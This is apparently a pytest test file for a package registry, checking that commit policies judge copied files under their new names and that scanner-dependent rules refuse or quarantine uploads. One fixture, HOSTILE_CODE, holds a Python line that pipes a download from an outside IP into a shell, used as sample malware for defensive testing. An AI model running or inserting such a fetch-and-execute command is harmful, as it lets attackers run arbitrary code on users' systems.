"""What comes in by a commit is judged as it will stand there, however it got there."""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest

from entrepot.catalog.revisions import MAIN
from entrepot.domain.actor import Action, Actor, Grant
from entrepot.domain.changes import CopyFile, DeleteFile
from entrepot.domain.errors import Blocked, FileNotFound, NotFound, Refused
from entrepot.domain.names import FilePath, Locator, PackageName, PackageType, RepositoryKey
from entrepot.operations import manage, publish
from entrepot.operations.download import download
from entrepot.operations.publish import Draft, InlineFile, Item
from entrepot.operations.registry import Registry
from entrepot_testing import READER, add_repository, apply_policy, close_registry, make_registry, rule_about, run

KEY, NAME = RepositoryKey("models"), PackageName(PackageType.MODEL, "ada", "model")
ADA = Actor("ada", 1, 1, "test", (Grant("*", frozenset(Action)),))
HOSTILE_CODE = b"import os\nos.system('curl http://203.0.113.7/x | sh')\n"
NO_MALWARE = rule_about('verdict = "malicious"', name="nothing malicious")
NO_CODE = rule_about('path = ["*.py"]', name="no code")
NOTES, CODE = FilePath("notes.txt"), FilePath("modeling_x.py")


@asynccontextmanager
async def a_package(folder: Path, scanning: str = "on") -> AsyncIterator[Registry]:
    registry = make_registry(folder, scanning=scanning)
    add_repository(registry, "models")
    try:
        await manage.create(registry, KEY, NAME, ADA, private=False)
        yield registry
    finally:
        await close_registry(registry)


async def commit(registry: Registry, *items: Item) -> None:
    async def given() -> AsyncIterator[Item]:
        for item in items:
            yield item

    repository = await registry.repository(KEY)
    package = await repository.package(NAME)
    await publish.publish(registry, repository, ADA, Draft(package, MAIN, "more", "", given()))


async def stands(registry: Registry, path: FilePath) -> bool:
    repository = await registry.repository(KEY)
    try:
        await repository.file(await repository.revision(NAME, "main"), path)
    except FileNotFound:
        return False
    return True


@pytest.mark.parametrize("policy", [NO_MALWARE, NO_CODE])
@pytest.mark.parametrize("how", ["of the branch", "of a commit", "of the same commit", "of a copy"])
def test_a_copy_is_judged_under_its_new_name(tmp_path: Path, policy: str, how: str) -> None:
    async def test() -> None:
        async with a_package(tmp_path) as registry:
            apply_policy(registry, policy)
            put = InlineFile(NOTES, HOSTILE_CODE)
            if how != "of the same commit":
                await commit(registry, put)
            again = FilePath("again.txt")
            items: dict[str, list[Item]] = {
                "of the branch": [CopyFile(CODE, NOTES, ""), DeleteFile(NOTES)],
                "of a commit": [CopyFile(CODE, NOTES, "main")],
                "of the same commit": [put, CopyFile(CODE, NOTES, "")],
                "of a copy": [CopyFile(again, NOTES, ""), CopyFile(CODE, again, "")],
            }
            with pytest.raises(Refused, match=r"modeling_x\.py"):
                await commit(registry, *items[how])
            assert not await stands(registry, CODE)
            await commit(registry, *([put] if how == "of the same commit" else []), CopyFile(again, NOTES, ""))
            assert await stands(registry, again)

    run(test)


def test_a_copy_of_nothing_is_not_found(tmp_path: Path) -> None:
    async def test() -> None:
        async with a_package(tmp_path) as registry:
            apply_policy(registry, NO_MALWARE)
            for revision in ("", "main", "somewhere"):
                with pytest.raises(NotFound):
                    await commit(registry, CopyFile(CODE, NOTES, revision))

    run(test)


def test_what_needs_no_scanner_is_asked_where_nothing_is_scanned(tmp_path: Path) -> None:
    async def test() -> None:
        async with a_package(tmp_path, scanning="off") as registry:
            apply_policy(registry, NO_CODE)
            with pytest.raises(Refused, match="no code"):
                await commit(registry, InlineFile(CODE, b"x = 1\n"))
            await commit(registry, InlineFile(NOTES, b"x = 1\n"))

    run(test)


@pytest.mark.parametrize(
    "condition",
    ['verdict = "malicious"', 'severity = "low"', 'executable = "any"', 'coverage = "none"', 'format = "zip"'],
)
def test_where_nothing_is_scanned_what_asks_for_the_scanner_is_refused_at_both_doors(
    tmp_path: Path, condition: str
) -> None:
    async def test() -> None:
        async with a_package(tmp_path, scanning="off") as registry:
            await commit(registry, InlineFile(NOTES, b"before"))
            apply_policy(registry, rule_about(condition, name="seen by the scanner"))
            with pytest.raises(Refused, match="seen by the scanner"):
                await commit(registry, InlineFile(CODE, b"x = 1\n"))
            assert not await stands(registry, CODE)
            with pytest.raises(Blocked, match="seen by the scanner"):
                await download(registry, Locator(KEY, NAME, "main", NOTES), ADA)
            # In quarantine it may come in, and waits there for somebody who can look.
            apply_policy(registry, 'uploads = "quarantine"\n' + rule_about(condition, name="seen by the scanner"))
            await commit(registry, InlineFile(CODE, b"x = 1\n"))
            with pytest.raises(Blocked, match="seen by the scanner"):
                await download(registry, Locator(KEY, NAME, "main", CODE), READER)

    run(test)
